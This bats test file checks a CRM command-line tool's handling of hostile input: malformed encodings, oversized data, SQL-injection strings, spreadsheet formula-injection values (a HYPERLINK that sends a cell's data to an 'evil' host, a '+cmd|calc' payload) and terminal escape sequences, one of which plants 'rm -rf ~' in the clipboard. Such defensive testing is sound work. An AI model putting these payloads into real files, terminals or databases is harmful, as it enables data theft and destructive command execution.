#!/usr/bin/env bats
# Hostile and broken input: files exported from somewhere else, values and
# names that look like SQL, sizes nobody planned for.  Each case: a clear
# message, the exit code crm(1) gives under EXIT STATUS, and the database as it was.

load helper
bats_require_minimum_version 1.5.0

# A file of $2 bytes of x, without a line end.
xs() {
	head -c "$1" /dev/zero | tr '\0' x
}

@test "hostile: invalid UTF-8 in a CSV cell names line and field, writes nothing" {
	seed
	# the first row is UTF-8, so the file is: a later byte that is not is an error
	printf 'first_name,email\nÑoño,ok@x.es\n\xff\xfeBad,bad@x.es\n' >in.csv
	fails_unchanged 3 "crm-contact: line 3: first_name: not valid UTF-8
crm-contact: nothing imported: 1 invalid row; fix it, or use --skip-invalid" \
		crm-contact import in.csv
}

@test "hostile: invalid UTF-8 in a header, an argument, a filter and a custom field" {
	seed
	printf 'first_name,\xc3(\nA,b\n' >in.csv
	run --separate-stderr crm-contact import --dry-run -q in.csv
	[ "$status" -eq 0 ]
	fails_unchanged 3 "crm-contact: first_name: not valid UTF-8" \
		crm-contact add "first_name=$(printf 'a\xffb')"
	fails_unchanged 3 "crm-contact: first_name: not valid UTF-8" \
		crm-contact set 1 "first_name=$(printf '\xc0\xaf')"
	run --separate-stderr crm-contact list "city=$(printf '\xff')"
	[ "$status" -eq 3 ] || [ "$status" -eq 1 ]
	[ "$output" = "" ]
}

@test "hostile: a NUL byte in a CSV file is an error naming its line and field" {
	seed
	printf 'first_name,email\nA,a@x.es\nB\0d,b@x.es\n' >in.csv
	fails_unchanged 3 "crm-contact: line 3: first_name: NUL byte in the data (not a text file?)" \
		crm-contact import in.csv
	# a binary file given by mistake
	{
		printf '\177ELF\2\1\1'
		head -c 4000 /dev/zero
	} >bin.csv
	run --separate-stderr crm-contact import bin.csv
	[ "$status" -eq 3 ]
	[[ "$stderr" == *"NUL byte in the data"* ]]
}

@test "hostile: a UTF-16 file (a spreadsheet's Unicode text) imports; a broken one is named as such" {
	seed
	printf 'first_name,email\nAna,a@x.es\n' | iconv -f UTF-8 -t UTF-16LE >u16.csv
	printf '\xff\xfe' | cat - u16.csv >u16bom.csv
	printf '\xfe\xff\0f\0i\0r\0s\0t\0_\0n\0a\0m\0e\0\n\0A\xd8\0\0B' >u16be.csv
	fails_unchanged 3 "crm-contact: line 2: not UTF-16BE text (byte 0xD8); name the file's encoding with --encoding" \
		crm-contact import u16be.csv
	run --separate-stderr crm-contact import -q u16bom.csv
	[ "$status" -eq 0 ]
	run crm-contact list -o tsv --fields first_name,email email=a@x.es
	[ "$output" = "Ana	a@x.es" ]
}

@test "hostile: a 10 MB field is stored and exported whole" {
	{
		printf 'first_name,email,notes\nBig,big@x.es,'
		xs $((10 * 1024 * 1024))
		printf '\n'
	} >big.csv
	run --separate-stderr crm-contact import -q big.csv
	[ "$status" -eq 0 ]
	run crm sql "SELECT length(notes) FROM contact WHERE email = 'big@x.es'"
	[ "$output" = "10485760" ]
	crm-contact export --fields notes | tail -n 1 | wc -c | grep -qx 10485761
}

@test "hostile: 10,000 columns: 20 warnings and a count; none matching is an error" {
	seed
	{
		seq -f 'c%g' 1 10000 | paste -sd,
		seq -f 'v%g' 1 10000 | paste -sd,
	} >wide.csv
	fails_unchanged 3 "$(for i in $(seq 1 20); do
		echo "crm-contact: ignoring column 'c$i' (no such field; use --map 'c$i=FIELD')"
	done)
crm-contact: (9980 more columns ignored)
crm-contact: line 1: no column matches a contact field" crm-contact import wide.csv
	{
		printf 'email,'
		seq -f 'c%g' 1 10000 | paste -sd,
		printf 'w@x.es,'
		seq -f 'v%g' 1 10000 | paste -sd,
	} >wide2.csv
	run --separate-stderr crm-contact import wide2.csv
	[ "$status" -eq 0 ]
	[ "${#stderr_lines[@]}" -eq 22 ]
	[ "${stderr_lines[21]}" = "crm-contact: 1 added, 0 updated, 0 unchanged, 0 invalid" ]
}

@test "hostile: a 100,000-character line imports whole" {
	{
		printf 'first_name,email,notes\nLong,long@x.es,'
		xs 100000
		printf '\n'
	} >long.csv
	run --separate-stderr crm-contact import -q long.csv
	[ "$status" -eq 0 ]
	run crm sql "SELECT length(notes) FROM contact"
	[ "$output" = "100000" ]
}

@test "hostile: mixed CRLF and LF line ends: no CR in the values, lines counted right" {
	crm init -q
	printf 'first_name,email\r\nA,a@x.es\nB,b@x.es\r\nC,c@\r\n' >mixed.csv
	fails_unchanged 3 "crm-contact: line 4: email: invalid address 'c@'
crm-contact: nothing imported: 1 invalid row; fix it, or use --skip-invalid" \
		crm-contact import mixed.csv
	printf 'first_name,email\r\nA,a@x.es\nB,b@x.es\r\n' >mixed.csv
	run crm-contact import -q mixed.csv
	[ "$status" -eq 0 ]
	run crm sql "SELECT count(*) FROM contact WHERE replace(first_name || email, '"$'\r'"', '') != first_name || email"
	[ "$output" = "0" ]
	run crm-contact list -o ids
	[ "$output" = "$(printf '1\n2')" ]
}

@test "hostile: an unterminated quote is an error naming the line it starts on" {
	seed
	printf 'first_name,email,notes\nA,a@x.es,"open\nB,b@x.es,x\n' >open.csv
	fails_unchanged 3 "crm-contact: line 2: malformed CSV (error parsing data while strict checking enabled): unterminated quoted field" \
		crm-contact import open.csv
}

@test "hostile: a header repeated (files joined) is a row error, not an address" {
	seed
	printf 'first_name,email\nA,a@x.es\nfirst_name,email\nB,b@x.es\n' >twice.csv
	fails_unchanged 3 "crm-contact: line 3: the header line again
crm-contact: nothing imported: 1 invalid row; fix it, or use --skip-invalid" \
		crm-contact import twice.csv
	run --separate-stderr crm-contact import --skip-invalid twice.csv
	[ "$status" -eq 0 ]
	[ "$stderr" = "crm-contact: line 3: the header line again
crm-contact: 2 added, 0 updated, 0 unchanged, 1 invalid" ]
}

@test "hostile: a file without its header line is refused" {
	seed
	printf 'Ana,ana2@x.es\nBea,bea@x.es\n' >nohead.csv
	fails_unchanged 3 "crm-contact: ignoring column 'Ana' (no such field; use --map 'Ana=FIELD')
crm-contact: ignoring column 'ana2@x.es' (no such field; use --map 'ana2@x.es=FIELD')
crm-contact: line 1: no column matches a contact field" crm-contact import nohead.csv
	: >empty.csv
	run --separate-stderr crm-contact import empty.csv
	[ "$(crm-contact list -o ids | wc -l)" -eq 3 ]
}

@test "hostile: values that look like SQL are stored as text, nothing else happens" {
	seed
	local v="'; DROP TABLE contact; --" w='Robert"); DELETE FROM tag; --'
	crm-contact add "first_name=$v" "last_name=$w" email=bobby@x.es city="1' OR '1'='1" -q
	printf 'first_name,email,notes\n"%s",t@x.es,"x"" OR 1=1 --"\n' "$w" >sql.csv
	crm-contact import -q sql.csv
	run crm-contact list -o tsv --fields first_name,last_name "email=bobby@x.es"
	[ "$output" = "$v	$w" ]
	run crm-contact list -o ids "city=1' OR '1'='1"
	[ "$output" = 4 ]
	run crm-contact list -o ids "city=1' OR '1'='2"
	[ "$status" -eq 1 ]
	run crm-contact list -o ids "DROP TABLE"
	[ "$output" = 4 ]
	run crm sql "SELECT count(*) FROM tag"
	[ "$output" = 3 ]
	run crm check
	[ "$status" -eq 0 ]
	[ "$(crm-contact list -o ids | wc -l)" -eq 5 ]
}

@test "hostile: field names that look like SQL in filters, --fields, --sort, --where, --key" {
	seed
	fails_unchanged 2 "crm-contact: contact has no field 'x' (see 'crm-contact fields')" \
		crm-contact list "x=1 OR 1=1"
	fails_unchanged 2 "crm-contact: --fields: contact has no field 'email FROM contact; --'
usage: crm-contact list [OPTIONS] [FILTER...]" crm-contact list --fields 'id,email FROM contact; --'
	fails_unchanged 2 "crm-contact: --fields: no field named
usage: crm-contact list [OPTIONS] [FILTER...]" crm-contact list --fields ','
	fails_unchanged 2 "crm-contact: --sort: contact has no sortable field 'email; DROP TABLE contact'
usage: crm-contact list [OPTIONS] [FILTER...]" crm-contact list --sort 'email; DROP TABLE contact'
	fails_unchanged 2 "crm-contact: --sort: contact has no sortable field '\"email\"'
usage: crm-contact list [OPTIONS] [FILTER...]" crm-contact list --sort '"email"'
	fails_unchanged 3 "crm-contact: --where: id: not a record number '1); DELETE FROM contact; --'" \
		crm-contact set --where 'id=1); DELETE FROM contact; --' city=x
	fails_unchanged 1 "" crm-contact set --where "city=x') OR ('1'='1" city=x -q
	printf 'email\nx@x.es\n' >k.csv
	fails_unchanged 2 "crm-contact: --key: contact has no field 'email) OR 1=1 --'
usage: crm-contact import [OPTIONS] [FILE|-]" crm-contact import --key 'email) OR 1=1 --' k.csv
	# a word that is not name<op>value is full-text search, found nowhere
	fails_unchanged 1 "" crm-contact list "first_name'--=x"
}

@test "hostile: custom field names that look like SQL are refused; SQL keywords work quoted" {
	seed
	fails_unchanged 3 "crm: invalid field name 'x\"; DROP TABLE contact; --' (use a-z, 0-9 and _, starting with a letter)" \
		crm field add contact 'x"; DROP TABLE contact; --' text
	fails_unchanged 3 "crm: invalid field name 'a b' (use a-z, 0-9 and _, starting with a letter)" \
		crm field add contact 'a b' text
	crm field add contact select text
	crm field add contact from text
	crm-contact set 1 select=yes from=there -q
	run crm-contact list -o tsv --fields id,select,from select=yes --sort -from
	[ "$output" = "1	yes	there" ]
	run crm check
	[ "$status" -eq 0 ]
}

@test "hostile: very long filters: too many terms or ORed values is a usage error" {
	seed
	local words
	mapfile -t words < <(seq -f 'city~w%g' 1 300)
	fails_unchanged 2 "crm-contact: too many filter terms (300; at most 256)" \
		crm-contact list "${words[@]}"
	fails_unchanged 2 "crm-contact: --where: too many filter terms (300; at most 256)" \
		crm-contact set "${words[@]/#/--where=}" city=x
	fails_unchanged 2 "crm-contact: city: too many values (5000; at most 256)" \
		crm-contact list "city~$(seq -f 'w%g' 1 5000 | paste -sd,)"
	# within the bounds, the filter runs
	mapfile -t words < <(seq -f 'city~%g' 1 255)
	run crm-contact list "${words[@]}" "city~$(seq -f 'w%g' 1 256 | paste -sd,)"
	[ "$status" -eq 1 ]
	# any-of lists of exact values are flat: thousands of ids are fine
	run crm-contact list -o ids "id=$(seq 1 20000 | paste -sd,)"
	[ "$status" -eq 0 ]
	[ "${#lines[@]}" -eq 3 ]
	# a 100,000-character search word and value
	run crm-contact list "$(xs 100000)"
	[ "$status" -eq 1 ]
	run crm-contact list "city~$(xs 100000)"
	[ "$status" -eq 1 ]
}

@test "hostile: impossible dates are invalid data, in values and filters" {
	seed
	fails_unchanged 3 "crm-contact: birthday: invalid date '0000-00-00'" \
		crm-contact add first_name=X birthday=0000-00-00
	fails_unchanged 3 "crm-contact: birthday: invalid date '9999-99-99'" \
		crm-contact add first_name=X birthday=9999-99-99
	fails_unchanged 3 "crm-contact: birthday: invalid date '0000-00-00'" \
		crm-contact list 'birthday>0000-00-00'
	fails_unchanged 3 "crm-task: due: invalid date '+999999999999999999999d'" \
		crm-task add subject=x due=+999999999999999999999d
	fails_unchanged 3 "crm-task: due: invalid date '10000-01-01'" \
		crm-task add subject=x due=10000-01-01
	fails_unchanged 3 "crm-task: due: invalid date '2026-03-01T24:00'" \
		crm-task add subject=x due=2026-03-01T24:00
	printf 'first_name,birthday\nA,1980-02-30\n' >d.csv
	fails_unchanged 3 "crm-contact: line 2: birthday: invalid date '1980-02-30'
crm-contact: nothing imported: 1 invalid row; fix it, or use --skip-invalid" \
		crm-contact import d.csv
	# the ends of the calendar are real dates
	crm-task add subject=x due=9999-12-31T23:59 -q
	crm-task add subject=y due=0001-01-01 -q
	run crm-task list -o tsv --fields due --sort due
	[ "$output" = "0001-01-01
9999-12-31T23:59:00Z" ]
}

@test "hostile: amounts that overflow 64 bits are invalid, so are their products and sums" {
	seed
	fails_unchanged 3 "crm-opp: amount: too large (at most 999999999999999.99) '99999999999999999999999'" \
		crm-opp add name=x amount=99999999999999999999999
	fails_unchanged 3 "crm-opp: amount: too large (at most 999999999999999.99) '92233720368547758.08'" \
		crm-opp add name=x amount=92233720368547758.08
	fails_unchanged 3 "crm-product: price: not an amount '1e400'" \
		crm-product add sku=x price=1e400
	crm-product add sku=BIG price=999999999999999.99 -q
	crm-opp add name=Deal -q
	fails_unchanged 3 "crm-opp: total: too large (at most 999999999999999.99)" \
		crm-opp item add 1 product=BIG qty=999999999
	crm-opp item add 1 product=BIG qty=1 -q
	run crm-opp list -o tsv --fields amount
	[ "$output" = "999999999999999.99" ]
	fails_unchanged 3 "crm-opp: amount: too large (at most 999999999999999.99)" \
		crm-opp item add 1 product=BIG qty=1
	fails_unchanged 3 "crm-account: employees: not a number '1e309'" \
		crm-account add name=x employees=1e309
	run crm-opp list -o ids
	[ "$status" -eq 0 ]
	run crm check
	[ "$status" -eq 0 ]
}

@test "hostile: ids on stdin that are not ids, or not text" {
	seed
	fails_unchanged 3 "crm-contact: stdin line 2: not a record id '1; DROP TABLE contact'" \
		crm-contact set - city=x <<<"$(printf '1\n1; DROP TABLE contact\n')"
	fails_unchanged 1 "crm-contact: no contact 99999999999999999999999" \
		crm-contact set - city=x <<<"99999999999999999999999"
}

@test "hostile: --excel-safe quotes formula-like values in csv and tsv, not numbers" {
	crm-contact add 'first_name==HYPERLINK("http://evil/?"&A1)' 'last_name=@SUM(A1)' \
		email=f@x.es "phone=+34 600 12 34 56" city=-2+3 region=+ country=- -q
	crm-opp add name=Refund amount=-12.50 -q
	crm-opp add 'name=+cmd|calc' amount=5 -q
	run crm-contact export --excel-safe --fields first_name,last_name,phone,city,region,country
	output_is <<'OUT'
first_name,last_name,phone,city,region,country
"'=HYPERLINK(""http://evil/?""&A1)",'@SUM(A1),+34 600 12 34 56,'-2+3,'+,'-
OUT
	run crm-contact list --excel-safe -o tsv --fields id,first_name,phone
	output_is <<'OUT'
1	'=HYPERLINK("http://evil/?"&A1)	+34 600 12 34 56
OUT
	run crm-opp list --excel-safe -o csv --fields id,name,amount --sort id
	output_is <<'OUT'
id,name,amount
1,Refund,-12.50
2,'+cmd|calc,5.00
OUT
	# without the option the values are exported as they are (round trip)
	run crm-contact export --fields first_name
	[ "${lines[1]}" = '"=HYPERLINK(""http://evil/?""&A1)"' ]
	# json is not a spreadsheet format: unchanged
	run crm-opp list --excel-safe -o jsonl --fields name --sort id
	[ "${lines[1]}" = '{"name":"+cmd|calc"}' ]
	# every verb that prints records takes it
	run crm-task agenda --excel-safe -o csv
	[ "$status" -le 1 ]
	run crm history --excel-safe -o csv
	[ "$status" -eq 0 ]
}

@test "hostile: control characters in data are shown, not obeyed, on a terminal; machine formats keep the bytes" {
	# a name that clears the screen, one that writes the clipboard (OSC 52), a C1 CSI
	printf 'first_name,last_name,email\nAna\033[2J,Ruiz,ana@x.es\nEva,\033]52;c;cm0gLXJmIH4=\007,eva@x.es\nLuz,\302\2331m,luz@x.es\n' >evil.csv
	crm-contact import -q evil.csv
	# tables and the record view: caret notation, no ESC, no BEL, no CSI
	run crm-contact list -o table --fields id,first_name,last_name
	[[ "$output" == *'Ana^[[2J'* ]]
	[[ "$output" == *'^[]52;c;cm0gLXJmIH4=^G'* ]]
	[[ "$output" == *'^[[1m'* ]]
	! grep -q $'\033\|\007\|\302\233' <<<"$output" || false
	for id in 1 2 3; do
		run crm-contact show $id
		[ "$status" -eq 0 ]
		! grep -q $'\033\|\007\|\302\233' <<<"$output" || false
	done
	run crm-contact show 1
	[[ "$output" == *'first_name: Ana^[[2J'* ]]
	run crm-account show 1 2>/dev/null || true
	run crm history -o table
	! grep -q $'\033' <<<"$output" || false
	# an error quoting a value quotes it escaped
	run --separate-stderr crm-contact add first_name=X $'email=\033[2Jx'
	[ "$status" -eq 3 ]
	[ "$stderr" = "crm-contact: email: invalid address '^[[2Jx'" ]
	# a file name in the attachment list
	printf 'x' >$'\033[2Jevil.txt'
	crm attach -q contact=1 $'\033[2Jevil.txt'
	run crm attachment list contact=1 -o table
	[[ "$output" == *'^[[2Jevil.txt'* ]]
	# machine formats keep the exact bytes
	[ "$(crm-contact list -o tsv --fields first_name id=1)" = $'Ana\033[2J' ]
	[ "$(crm-contact list -o json --fields last_name id=2 | jq -r '.[0].last_name')" = $'\033]52;c;cm0gLXJmIH4=\007' ]
	[ "$(crm-contact export | grep -c $'\033')" = 2 ]
}
